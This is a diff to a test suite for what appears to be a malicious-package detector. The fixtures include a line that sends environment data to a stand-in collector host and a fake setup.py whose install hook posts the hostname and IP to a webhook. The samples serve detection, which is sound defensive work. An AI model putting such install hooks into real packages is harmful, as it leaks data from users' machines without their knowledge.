@@ -153,3 +153,24 @@ def test_environment_as_a_field_of_collected_data() -> None:
         "request.urlopen(request.Request('https://collector.example/r?d=' + data))\n"
     )
     assert "PV-SEC-ENVDUMP" in ids(run(ALL, bad))
+
+
+def test_install_time_webhook_post_of_host_and_ip_is_malicious() -> None:
+    bad = py(
+        "from setuptools import setup\n"
+        "from setuptools.command.install import install\n"
+        "class Install(install):\n"
+        "    def run(self):\n"
+        "        import socket, requests\n"
+        "        hostname = socket.gethostname()\n"
+        "        ip = socket.gethostbyname(hostname)\n"
+        f"        requests.post('{HOOK}', json={{'content': hostname + ip}})\n"
+        "setup(name='x', cmdclass={'install': Install})\n",
+        path="x-1.0/setup.py",
+        stage=Stage.INSTALL,
+    )
+    assert score(run(ALL, bad)).verdict is Verdict.MALICIOUS
+    bot_library = py(
+        f"import requests\ndef notify(msg):\n    requests.post('{HOOK}', json={{'content': msg}})\n"
+    )
+    assert score(run(ALL, bot_library)).verdict is not Verdict.MALICIOUS
